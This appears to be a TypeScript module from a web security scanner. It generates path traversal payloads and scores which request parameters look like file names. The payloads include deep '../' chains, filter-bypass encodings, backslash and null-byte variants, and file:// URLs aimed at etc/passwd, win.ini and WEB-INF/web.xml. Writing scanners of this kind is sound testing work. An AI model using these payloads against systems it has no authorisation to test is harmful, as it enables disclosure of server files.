import { type Exchange, header } from '../../core/evidence/http.ts';
import type { InsertionPoint } from '../../core/evidence/insertion-point.ts';
import { hasName } from '../../data/names.ts';

export type ServerKind = 'java' | 'other';

/** Facts about the program that opens the file. */
export interface TraversalPlace {
  /** The value that the site itself sends. */
  readonly example: string;
  /** Path of the page that takes the parameter. */
  readonly pagePath: string;
  readonly server: ServerKind;
  /** A banner or a drive letter says so. */
  readonly isWindows: boolean;
  /** Path of the Java web application on its server, `/` for the root; null when unknown. */
  readonly contextPath: string | null;
  /** Old versions of the site's runtime end a file name at a null byte; others fail on one. */
  readonly endsAtZero: boolean;
  /** Path of a static file with known text. */
  readonly knownPath: string | null;
}

const PAYLOADS_MAX = { java: 11, other: 13 } as const;
/** The version of Linux: it names no person, and no program can write it. */
const VERSION = 'proc/version';
/** Also for servers that send as many bytes as the file system says: none, for the version. */
const PASSWD = 'etc/passwd';
const WIN_INI = 'windows/win.ini';
const WEB_XML = 'WEB-INF/web.xml';
const up = (steps: number, step = '../') => step.repeat(steps);
/** More steps than any directory is deep: the file system stops at its root. */
const DEEP = 12;

/**
 * Values that lead outside the directory, most promising first; each covers programs that the earlier ones do not. The first one, a
 * slash and then up, works for programs that use a full path, and for those that prepend a directory with or without its slash.
 */
export function traversalPayloads(place: TraversalPlace): string[] {
  const { example, isWindows } = place;
  // A program that fetches URLs reads files by URL and joins no paths.
  if (/^https?:/i.test(example)) return [fileUrl(isWindows), cheapestPayload(isWindows)];
  const payloads = place.server === 'java' ? javaPayloads(place) : isWindows ? windowsPayloads() : unixPayloads(place);
  const folder = example.slice(0, example.lastIndexOf('/') + 1);
  // Programs may require a certain directory, a full path or a URL at the start.
  if (/^file:/i.test(example)) payloads.unshift(fileUrl(isWindows));
  else if (/^[^/].*\//.test(folder)) {
    payloads.splice(2, 0, folder + up(DEEP) + (isWindows ? WIN_INI : PASSWD));
    if (!isWindows) payloads.unshift(folder + up(DEEP) + VERSION);
  } else if (folder.length > 1) payloads.splice(3, 0, folder + up(DEEP) + (isWindows ? WIN_INI : PASSWD));
  return [...new Set(payloads)].slice(0, PAYLOADS_MAX[place.server]);
}

/**
 * The one value that most programs which open a file by its name accept: those that prepend a directory, with or without its slash, and
 * those that do not.
 */
export function cheapestPayload(isWindows: boolean): string {
  return `/${up(DEEP)}${isWindows ? WIN_INI : VERSION}`;
}

function unixPayloads({ example, endsAtZero, knownPath }: TraversalPlace): string[] {
  const ending = /\.[a-z][a-z0-9]{1,4}$/i.exec(example)?.[0] ?? '';
  return [
    cheapestPayload(false),
    `/${up(DEEP)}${PASSWD}`,
    up(DEEP) + PASSWD,
    // Becomes `../` when a filter removes `../` once.
    `/${up(DEEP, '....//')}${PASSWD}`,
    `/${PASSWD}`,
    // Old runtimes end the name before a required or appended extension.
    ...(endsAtZero ? [`/${up(DEEP)}${PASSWD}\u0000${ending}`] : []),
    // Filters for `../` only, before programs that accept both separators; and Windows without a banner.
    backslashes(up(DEEP) + PASSWD),
    backslashes(up(DEEP) + WIN_INI),
    fileUrl(false),
    `%2f${up(DEEP, '%2e%2e%2f')}${PASSWD.replace('/', '%2f')}`,
    ...(knownPath === null ? [] : [`..${knownPath}`, `../..${knownPath}`]),
  ];
}

function fileUrl(isWindows: boolean): string {
  return `file:///${isWindows ? `c:/${WIN_INI}` : PASSWD}`;
}

function backslashes(path: string): string {
  return path.replaceAll('/', '\\');
}

function windowsPayloads(): string[] {
  return [
    `/${up(DEEP)}${WIN_INI}`,
    backslashes(`/${up(DEEP)}${WIN_INI}`),
    backslashes(`c:/${WIN_INI}`),
    backslashes(up(DEEP) + WIN_INI),
    `/${up(DEEP, '....//')}${WIN_INI}`,
    `%2f${up(DEEP, '%2e%2e%2f')}${WIN_INI.replace('/', '%2f')}`,
    fileUrl(true),
    // An ASP.NET banner does not rule out another system.
    `/${up(DEEP)}${PASSWD}`,
  ];
}

/**
 * A web application reads its own resources by paths from its root, which must not lead above it (Servlet specification, section
 * 4.6): the number of steps must be right. The page's own folder gives it where the files are next to the pages.
 */
function javaPayloads(place: TraversalPlace): string[] {
  const { isWindows, example } = place;
  const inside = `/${up(stepsToContext(place))}${WEB_XML}`;
  const outside = isWindows ? WIN_INI : PASSWD;
  const direct = [`/${WEB_XML}`, isWindows ? backslashes(`c:/${outside}`) : `/${outside}`];
  const payloads = [
    cheapestPayload(isWindows),
    // Works for files and for resources of the application, if they are next to the pages.
    inside,
    `/${up(DEEP)}${outside}`,
    // Without a value of the site the start of the path is unknown.
    ...(example === '' ? [`/${WEB_XML}`, fileUrl(isWindows)] : []),
    // Filters for `../` only let backslashes through, which Windows accepts everywhere and older containers accept for resources.
    backslashes(isPathInApplication(place) ? `/${WEB_XML}` : inside),
    inside.replaceAll('../', '....//'),
    // With a known application the number of steps is right, and the resource payload covers this one.
    ...(place.contextPath === null ? [`/${up(DEEP, '....//')}${outside}`] : []),
    ...direct,
    fileUrl(isWindows),
    `/${up(1)}${WEB_XML}`,
    isWindows ? backslashes(`/${up(DEEP)}${outside}`) : `%2f${up(DEEP, '%2e%2e%2f')}${outside.replace('/', '%2f')}`,
  ];
  if (!isPathInApplication(place)) return payloads;
  return [place.example.startsWith('\\') ? backslashes(`/${WEB_XML}`) : `/${WEB_XML}`, ...payloads];
}

function folders(path: string): string[] {
  return path.split('/').slice(1, -1);
}

function stepsToContext({ pagePath, contextPath }: TraversalPlace): number {
  const depth = folders(pagePath).length;
  // Without evidence, assume that an application of several folders has a context path.
  const context = contextPath === null ? (depth > 1 ? 1 : 0) : folders(`${contextPath.replace(/\/$/, '')}/`).length;
  return Math.min(Math.max(depth - context, 0), DEEP);
}

/** True when the site's own value is a path from the root of the application, as the URL of the page shows. */
function isPathInApplication({ example, pagePath }: TraversalPlace): boolean {
  const own = `/${folders(pagePath).join('/')}/`;
  const given = folders(example.replaceAll('\\', '/'));
  return /^[\\/]/.test(example) && given.length > 0 && own.endsWith(`/${given.join('/')}/`);
}

/**
 * How likely a parameter is to name a file: by its name, the site's own value, or the response to it. A path usually leads to a page
 * and not to a file.
 *
 * @param linked response to the site's own value, where the crawl has it
 */
export function fileLikeness(
  point: InsertionPoint,
  example: string,
  linked: Exchange | null,
): 'strong' | 'vague' | null {
  if (point.kind === 'name' || point.kind === 'document') return null;
  if (point.kind === 'path') return /\.\w{1,5}$/.test(example) ? 'vague' : null;
  const name = point.kind === 'query-string' ? '' : point.kind === 'json' ? String(point.path.at(-1)) : point.name;
  if (hasName('file', name) || /[\w-]\.[a-z][a-z0-9]{1,4}$/i.test(example)) return 'strong';
  // What a visitor types, or a number, selects no file.
  const isWord = /[a-z]/i.test(example);
  const isVague = (isWord && hasName('selector', name)) || /^\.{0,2}\/[\w./-]+$/.test(example);
  return isVague || (linked !== null && isFileType(linked)) ? 'vague' : null;
}

/** True for a response that is a file rather than a page. */
function isFileType({ response: { status, headers } }: Exchange): boolean {
  const type = header(headers, 'content-type') ?? '';
  return (
    status === 200 &&
    /^\s*(?:(?:image|audio|video|font)\/|text\/(?:plain|csv|markdown)|application\/(?:pdf|zip|gzip|octet-stream|msword|vnd\.))/i.test(
      type,
    )
  );
}

/** Another spelling of a path, the same to a file system; null for other values. */
export function sameFile(example: string): string | null {
  if (!/^[\w./ -]*[\w-]$/.test(example)) return null;
  const file = example.lastIndexOf('/') + 1;
  return `${example.slice(0, file)}./${example.slice(file)}`;
}

/** The text of a page without the sent values, their encodings and numbers, so that responses can be compared. */
export function withoutValues(text: string, values: readonly string[]): string {
  const forms = values.flatMap((value) => [
    value,
    encodeURIComponent(value),
    encodeURI(value),
    value.replace(/[&<>"']/g, (character) => `&#${character.charCodeAt(0)};`),
  ]);
  const longestFirst = [...new Set(forms)]
    .filter((form) => form !== '')
    .sort((one, other) => other.length - one.length);
  return longestFirst.reduce((rest, form) => rest.replaceAll(form, ''), text.slice(0, 64 * 1024)).replace(/\d+/g, '0');
}
